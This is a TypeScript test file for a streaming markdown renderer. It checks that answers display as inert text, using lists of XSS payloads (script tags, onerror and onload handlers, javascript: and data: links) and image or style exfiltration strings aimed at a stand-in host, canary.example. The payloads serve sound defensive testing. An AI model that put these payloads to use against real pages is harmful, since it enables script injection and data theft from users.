import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { anyMarkdown } from "./any-markdown";
import { htmlOf, mount } from "./testing";

const ELEMENTS = new Set(
  "div p h3 h4 h5 h6 ul ol li input blockquote hr section table thead tbody tr th td figure pre code span button strong em del a br wbr svg path line rect polyline circle".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(
  "class dir start type disabled checked readonly aria-label aria-hidden aria-pressed role tabindex scope href title target rel".split(
    " ",
  ),
);
const SCHEMES = new Set(["http:", "https:", "mailto:"]);

/** Only the elements and attributes that we draw ourselves, and links that lead out by a known scheme. */
function expectInert(frame: Element): void {
  for (const element of frame.querySelectorAll("*")) {
    expect(ELEMENTS).toContain(element.localName);
    // Inside an icon stand only the shapes of lucide.
    if (element.closest("svg")) continue;
    for (const { name, value } of element.attributes) {
      expect(ATTRIBUTES).toContain(name);
      if (name === "href") expect(SCHEMES).toContain(new URL(value).protocol);
    }
  }
}

function drawn(html: string): HTMLElement {
  const frame = document.createElement("div");
  frame.innerHTML = html;
  return frame;
}

/** Draws `text` as it comes in, split at every character, and looks at the page each time. */
async function splitAtEveryCharacter(text: string): Promise<HTMLElement> {
  const { frame, show } = mount();
  for (let end = 1; end <= text.length; end++) {
    await show(text.slice(0, end), true);
    expectInert(frame);
  }
  await show(text);
  expectInert(frame);
  return frame;
}

const INJECTIONS = [
  '![" onerror=alert(1) x="](x)',
  '![a](x" onerror="alert(1))',
  '![a](https://a.example/" onload="alert(1) "t" onerror="x")',
  '[a](https://a.example/" onmouseover="alert(1))',
  "[a](<javascript:alert(1)>)",
  "[a][b]\n\n[b]: javascript:alert(1)",
  '```"><script>alert(1)</script>\ncode\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| "onfocus=alert(1) |',
];

const HTML = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg/onload=alert(1)>",
  '<a href="javascript:alert(1)" style="position:fixed">a</a>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<style>*{background:url(https://canary.example/)}</style>",
  "<math><mtext><style><img src onerror=alert(1)>",
  "<br onclick=alert(1)>",
  '<input autofocus onfocus="alert(1)">',
  "<!--><img src=x onerror=alert(1)>-->",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#10;script:alert(1))",
  "[a](javascript://example.com/%0Aalert(1)) <javascript://example.com/%0Aalert(1)> [b](ftp://example.com/)",
  "[a](data:text/html,<script>alert(1)</script>) <javascript:alert(1)> <data:text/html,x>",
  "[a](vbscript:x) [b](\u0001javascript:alert(1)) [c](&#106;avascript&colon;alert(1))",
];

const EXFILTRATION = [
  "![x](https://canary.example/?d=SECRET)",
  "![x][y]\n\n[y]: https://canary.example/?d=SECRET",
  "![x]\n\n[x]: <https://canary.example/?d=SECRET>",
  "[![x](https://canary.example/?d=SECRET)](https://canary.example/)",
  '<img src="https://canary.example/?d=SECRET">',
  '<picture><source srcset="https://canary.example/"></picture>',
  '<div style="background:url(https://canary.example/)">x</div>',
  "<link rel=stylesheet href=https://canary.example/>",
  "<video poster=https://canary.example/ src=//canary.example/>",
  "| ![x](https://canary.example/a.png) |\n|---|\n| ![x](//canary.example/b.png) |",
];

describe("threat 25: what streams is as safe as what is finished", () => {
  it.each(INJECTIONS)("%s", async (text) => {
    await splitAtEveryCharacter(`Before ${text} after`);
    await splitAtEveryCharacter(text);
  });

  it("at any cut of any mixture", () => {
    const hostile = fc.constantFrom(...INJECTIONS, ...HTML, ...EXFILTRATION);
    const mixture = fc
      .array(fc.oneof({ weight: 2, arbitrary: hostile }, anyMarkdown), { minLength: 1, maxLength: 4 })
      .chain((parts) =>
        fc.constantFrom("", " ", "\n", "\n\n", "\n- ", "\n> ").map((glue) => parts.join(glue)),
      );
    fc.assert(
      fc.property(mixture, fc.nat(), fc.boolean(), (text, cut, streaming) => {
        expectInert(drawn(htmlOf(text.slice(0, cut % (text.length + 1)), streaming)));
        expectInert(drawn(htmlOf(text, streaming)));
      }),
      { numRuns: 400 },
    );
  });
});

describe("threat 26: HTML and scripts in answers are text", () => {
  it.each(HTML)("%s", async (text) => {
    await splitAtEveryCharacter(text);
    const frame = await splitAtEveryCharacter(`- a ${text}`);
    expect(frame.querySelectorAll("script, style, iframe, img, [href^=java]")).toHaveLength(0);
  });
});

describe("threat 27: no picture and no style is ever asked of another server", () => {
  it.each(EXFILTRATION)("%s", async (text) => {
    const frame = await splitAtEveryCharacter(text);
    expect(frame.querySelectorAll("img, source, video, link, style, [src], [srcset], [style]")).toHaveLength(
      0,
    );
  });
});
